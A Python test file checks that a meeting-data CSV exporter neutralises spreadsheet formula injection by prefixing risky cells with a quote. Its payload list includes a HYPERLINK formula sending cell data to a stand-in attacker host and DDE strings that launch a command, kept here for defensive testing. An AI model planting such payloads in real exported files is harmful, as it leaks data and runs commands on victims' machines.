"""CSV cells a spreadsheet would run as formulas are neutralised (OWASP, CSV Injection)."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from feishu_vc_async.export._writers import csv_header, encode_csv

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-1+1",
    "\t=1+1",
    "\r=1+1",
    "=",
]


def _cells(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_formula_in_any_text_cell_gets_a_leading_quote(payload: str) -> None:
    row = {
        "meeting_no": "123456789",
        "participant_name": payload,
        "department": payload,
        "email": payload,
    }
    [cells] = _cells(encode_csv([tuple(row.values())]))
    assert cells == ["123456789", "'" + payload, "'" + payload, "'" + payload]


def test_numbers_flags_and_blanks_the_tool_writes_are_left_alone() -> None:
    row: dict[str, Any] = {
        "meeting_start_time": 1_759_990_000,
        "negative": -5,
        "accept_status": 1,
        "audio": True,
        "video": False,
        "phone": None,
    }
    assert encode_csv([tuple(row.values())]) == b"1759990000,-5,1,true,false,\r\n"


@pytest.mark.parametrize("text", ["Alice", "a=b", " =1+1", "1-2", "'=already", "朱勇", ""])
def test_text_that_does_not_start_a_formula_is_unchanged(text: str) -> None:
    assert _cells(encode_csv([(text, 1)])) == [[text, "1"]]


def test_raw_writes_the_values_as_sent() -> None:
    rows = [(p, "+86-13800000000") for p in PAYLOADS]
    assert _cells(encode_csv(rows, raw=True)) == [[p, "+86-13800000000"] for p in PAYLOADS]


@given(st.text())
def test_no_cell_read_back_starts_a_formula(text: str) -> None:
    [[cell]] = _cells(encode_csv([(text,)])) or [[""]]
    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert cell in (text, "'" + text)


def _reference(rows: list[tuple[Any, ...]], raw: bool) -> bytes:
    """What csv.writer writes of the cells the rule above gives: the spec of encode_csv."""

    def cell(value: Any) -> Any:
        if value is None:
            return ""
        if isinstance(value, bool):
            return "true" if value else "false"
        if not raw and isinstance(value, str) and value.startswith(FORMULA_STARTS):
            return "'" + value
        return value

    buf = io.StringIO(newline="")
    csv.writer(buf).writerows([[cell(v) for v in row] for row in rows])
    return buf.getvalue().encode("utf-8")


FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_CELLS = st.one_of(
    st.none(),
    st.booleans(),
    st.integers(),
    st.text(),
    st.text(alphabet=',"\r\n=+-@\t a朱'),
    st.sampled_from(["", "+86-13800000000", "a,b", 'say "hi"', "x\ny", "\r", "-1"]),
)


@given(
    st.integers(min_value=1, max_value=5).flatmap(
        lambda width: st.lists(st.tuples(*[_CELLS] * width), max_size=6)
    ),
    st.booleans(),
)
def test_encoding_is_csv_writers_of_the_neutralised_cells(
    rows: list[tuple[Any, ...]], raw: bool
) -> None:
    # Cells are encoded a column at a time; the bytes must be csv.writer's, row by row.
    assert encode_csv(rows, raw=raw) == _reference(rows, raw)
    assert _cells(encode_csv(rows, raw=raw)) == _cells(_reference(rows, raw))


def test_the_header_is_a_csv_line_of_the_column_names() -> None:
    assert csv_header(["meeting_no", "a,b", "=x"]) == b'meeting_no,"a,b",=x\r\n'
